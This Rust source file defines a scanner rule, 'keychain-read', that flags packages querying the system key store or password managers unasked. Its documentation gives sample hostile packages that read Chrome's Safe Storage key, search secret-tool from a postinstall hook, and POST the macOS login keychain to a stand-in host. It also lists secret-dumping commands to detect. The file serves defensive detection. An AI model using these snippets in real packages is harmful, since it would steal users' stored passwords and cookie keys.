//! # The system's key store is read unasked
//!
//! A command asks the system's key store or a password manager for secrets at install or import, or a file
//! of the key store leaves the machine.
//!
//! ## Why it matters
//!
//! The key store holds the passwords of browsers, mail and code signing, and the key that decrypts
//! browsers' cookies.
//!
//! ## Known benign uses
//!
//! Libraries that keep a secret of their own there ask for their own entry when they are called. Commands
//! do so when a person starts them.
//!
//! ## Bad
//!
//! ```package
//! == package.json
//! {"name": "x", "version": "1.0.0", "main": "index.js"}
//! == index.js
//! const { execSync } = require("child_process");
//! exports.key = execSync("security find-generic-password -ws 'Chrome Safe Storage'").toString(); //~ here
//! ```
//!
//! ```package
//! == package.json
//! {"name": "x", "version": "1.0.0", "scripts": {"postinstall": "node setup.js"}}
//! == setup.js
//! const { spawnSync } = require("child_process");
//! const { stdout } = spawnSync("secret-tool", ["search", "--all", "application", "chrome"]); //~ here
//! ```
//!
//! ```package
//! == package.json
//! {"name": "x", "version": "1.0.0", "main": "index.js"}
//! == index.js
//! const fs = require("fs"), os = require("os");
//! const file = fs.readFileSync(os.homedir() + "/Library/Keychains/login.keychain-db");
//! fetch("https://collector.invalid/k", { method: "POST", body: file }); //~ here
//! ```
//!
//! ## Good
//!
//! ```package
//! == package.json
//! {"name": "x", "version": "1.0.0", "main": "index.js"}
//! == index.js
//! const { execFileSync } = require("child_process");
//! exports.read = (account) => execFileSync("security", ["find-generic-password", "-a", account, "-s", "x", "-w"]);
//! ```
//!
//! ## References
//!
//! - Socket: BeaverTail packages (March 2025)

use crate::prelude::*;

/// The system's key store is read unasked.
pub struct KeychainRead;

impl Rule for KeychainRead {
    fn meta(&self) -> &'static RuleMeta {
        &RuleMeta {
            id: "keychain-read",
            title: "The system's key store is read unasked",
            tier: Tier::Source,
            role: Role::Threat,
            severity: Level::High,
            specificity: Level::High,
            technique: "T1555.001",
            covers: &["collect-keychain", "collect-secret-managers"],
            status: RuleStatus::Stable,
            since: "0.1.0",
        }
    }

    fn check(&self, facts: &Facts<'_>, found: &mut Found<'_>) {
        let is_asked = |command: &&CommandFact| command.runs.iter().any(asks);
        for command in facts.unasked_commands().filter(is_asked) {
            found.at(command.trigger, &command.locus, "asks the key store for secrets");
        }
        for flow in facts.flows(|source| *source == Source::SecretFile(FileClass::Keychain), |_| true) {
            let is_copied = matches!(flow.sink, Sink::FileWrite(_)) && flow.trigger.runs_unasked();
            if is_copied || facts.goes_unsaid(flow) {
                found.flow(flow);
            }
        }
    }
}

/// Programs that answer with secrets, and the words that make them do so. Sources: their manuals.
const PROGRAMS: &[(&str, &[&str])] = &[
    ("security", &["find-generic-password", "find-internet-password", "dump-keychain", "export"]),
    ("secret-tool", &["lookup", "search"]),
    ("kwallet-query", &["-r", "-l", "--list-entries", "--read-password"]),
    ("cmdkey", &["/list"]),
    ("vaultcmd", &["/list", "/listcreds"]),
    ("op", &["item", "read", "document"]),
    ("bw", &["list", "get", "export"]),
    ("pass", &["show", "ls"]),
    ("gopass", &["show", "ls"]),
    ("lpass", &["show", "export", "ls"]),
];

fn asks(run: &Run) -> bool {
    let Run::Program { name, arguments } = run else { return false };
    let name = name.rsplit(['/', '\\']).next().unwrap_or(name).to_ascii_lowercase();
    let known = PROGRAMS.iter().find(|(program, _)| *program == name.trim_end_matches(".exe"));
    known.is_some_and(|(_, words)| {
        arguments.iter().any(|argument| {
            words.iter().any(|word| argument.to_ascii_lowercase().split(':').next() == Some(*word))
        })
    })
}
